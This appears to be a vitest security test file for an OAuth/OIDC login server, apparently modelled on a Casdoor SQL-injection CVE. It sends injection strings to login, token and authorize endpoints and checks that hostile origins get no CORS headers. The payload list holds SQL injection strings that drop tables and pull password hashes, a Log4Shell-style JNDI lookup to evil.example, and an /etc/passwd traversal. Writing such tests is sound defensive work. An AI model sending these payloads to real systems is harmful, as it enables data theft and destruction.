// Mirrors Casdoor CVE-2022-24124 and GO-2024-3087: no text becomes a statement, a pattern, a path or a template, and
// no origin that is not a client's own reads an answer.
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Agent } from '../setup/agent.ts';
import {
  authorizationUrl,
  callback,
  getTokens,
  newPkce,
  password,
  refreshRequest,
  refusalOf,
  responseOf,
  sampleTenant,
  spa,
  users,
} from '../setup/flow.ts';
import { type Freehold, startFreehold } from '../setup/server.ts';

let freehold: Freehold;
beforeAll(async () => {
  const wildcard = {
    ...spa,
    client_id: 'wildcard',
    name: 'Wildcard',
    callbacks: ['https://*.example.com/cb'],
    allowed_origins: [],
    web_origins: [],
  };
  const databases = [
    {
      name: 'Users',
      strategy: 'auth0',
      enabled_clients: ['spa'],
      // So many wrong passwords would block Ada.
      options: { brute_force_protection: false },
    },
  ];
  freehold = await startFreehold({ tenant: sampleTenant({ clients: [spa, wildcard], databases }), users });
});
afterAll(() => freehold.stop());

const statements = [
  "' or '1'='1",
  "' or 1=1--",
  '" or ""="',
  "'; drop table user; --",
  "' union select password_hash from identity --",
  "x' || (select group_concat(password_hash) from identity) || '",
  '1; attach database ":memory:" as x',
  '$1',
  '?',
  ':now',
  '@p1',
  '\\',
  '%',
  '_',
  'ada@%',
  '*',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  '$\u007bjndi:ldap://evil.example/x}',
  '{{7*7}}',
  '../../../etc/passwd',
];

function rowsOf(table: string): number {
  const database = new DatabaseSync(`${freehold.folder}/freehold.db`, { readOnly: true });
  const count = Number(Object.values(database.prepare(`select count(*) from ${table}`).get() ?? {})[0]);
  database.close();
  return count;
}

describe.each(statements)('%j', (text) => {
  test('UL-8: as identifier, with somebody’s password, logs nobody in', async () => {
    const agent = new Agent(freehold.issuer);
    const page = await agent.open(authorizationUrl(freehold, newPkce()));
    const answer = await agent.submit(page, { username: text, password, action: 'default' });
    expect(answer.status).toBe(400);
    expect(answer.text).toContain('Wrong email or password');
    expect(rowsOf('user')).toBe(users.length);
  });

  test('AZ-54, AZ-20, AZ-24: as client, API or connection is unknown', async () => {
    const agent = new Agent(freehold.issuer);
    const ofClient = await agent.send(authorizationUrl(freehold, newPkce(), { client_id: text }));
    expect([ofClient.status, ofClient.headers.location]).toEqual([400, undefined]);
    const ofApi = await agent.send(authorizationUrl(freehold, newPkce(), { audience: text }));
    expect(responseOf(ofApi)).toMatchObject({ error: 'access_denied' });
    const ofConnection = await agent.send(authorizationUrl(freehold, newPkce(), { connection: text }));
    expect(responseOf(ofConnection)).toMatchObject({
      error: 'invalid_request',
      error_description: 'the connection was not found',
    });
  });

  test('RT-4, AC-5, CA-5: as token, code or client at the token endpoint is unknown', async () => {
    const agent = new Agent(freehold.issuer);
    const unknown = {
      status: 403,
      error: 'invalid_grant',
      error_description: 'Unknown or invalid refresh token.',
    };
    expect(refusalOf(await agent.postForm('/oauth/token', refreshRequest(text)))).toEqual(unknown);
    const code = { grant_type: 'authorization_code', client_id: 'spa', code: text, code_verifier: text };
    expect(refusalOf(await agent.postForm('/oauth/token', code))).toMatchObject({
      status: 403,
      error: 'invalid_grant',
    });
    const client = refreshRequest('x', { client_id: text });
    expect(refusalOf(await agent.postForm('/oauth/token', client))).toMatchObject({
      status: 401,
      error: 'invalid_client',
    });
    expect((await agent.postForm('/oauth/revoke', { client_id: 'spa', token: text })).status).toBe(200);
  });

  test('AZ-66: as handle finds no transaction', async () => {
    const agent = new Agent(freehold.issuer);
    await agent.open(authorizationUrl(freehold, newPkce()));
    for (const path of [
      '/u/login',
      '/u/login/identifier',
      '/u/login/password',
      '/u/consent',
      '/authorize/resume',
      '/authorize/posted',
      '/oidc/logout/posted',
    ]) {
      const answer = await agent.send(`${path}?${new URLSearchParams({ state: text })}`);
      expect([path, answer.status, answer.headers.location]).toEqual([path, 400, undefined]);
    }
  });
});

describe('CO-1, CO-5, CO-6: an origin that is nobody’s', () => {
  const origins = [
    'null',
    'https://evil.example',
    'https://app.example.evil.example',
    'https://evilapp.example',
    'http://app.example',
    'https://app.example:8443',
    'https://app.example.',
    'https://APP.example',
    'https://app.example/',
    'https://user@app.example',
    'https://a.b.example.com',
    'https://example.com',
    'https://evil.example#.example.com',
    'https://evil-example.com',
    'file://',
    'com.myclientapp://',
    '*',
    '',
  ];

  let agent: Agent;
  let authorization = '';
  beforeAll(async () => {
    const signedIn = await getTokens(freehold);
    agent = signedIn.agent;
    authorization = `Bearer ${signedIn.tokens.access_token}`;
  });

  test.each(origins)('%j is told nothing, at any endpoint', async (origin) => {
    const answers = [
      await agent.postForm('/oauth/token', refreshRequest('x'), { origin }),
      await agent.postForm('/oauth/revoke', { client_id: 'spa', token: 'x' }, { origin }),
      await agent.send('/userinfo', { headers: { origin, authorization } }),
      await agent.send('/userinfo', { headers: { origin } }),
      await agent.send('/oauth/token', {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'POST' },
      }),
      await agent.send('/authorize', { headers: { origin } }),
      await agent.send('/u/login', { headers: { origin } }),
    ];
    for (const { headers } of answers) {
      expect(headers['access-control-allow-origin']).toBeUndefined();
      expect(headers['access-control-allow-credentials']).toBeUndefined();
    }
  });

  test('another client’s origin does not read the answer to this one; its own does, without credentials', async () => {
    const ofOther = await agent.send('/userinfo', {
      headers: { origin: 'https://a.example.com', authorization },
    });
    expect([ofOther.status, ofOther.headers['access-control-allow-origin']]).toEqual([200, undefined]);
    const { origin } = new URL(callback);
    const ofOwn = await agent.send('/userinfo', { headers: { origin, authorization } });
    expect(ofOwn.headers['access-control-allow-origin']).toBe(origin);
    expect(ofOwn.headers['access-control-allow-credentials']).toBeUndefined();
    for (const { headers } of [ofOther, ofOwn]) expect(headers.vary).toContain('Origin');
  });
});
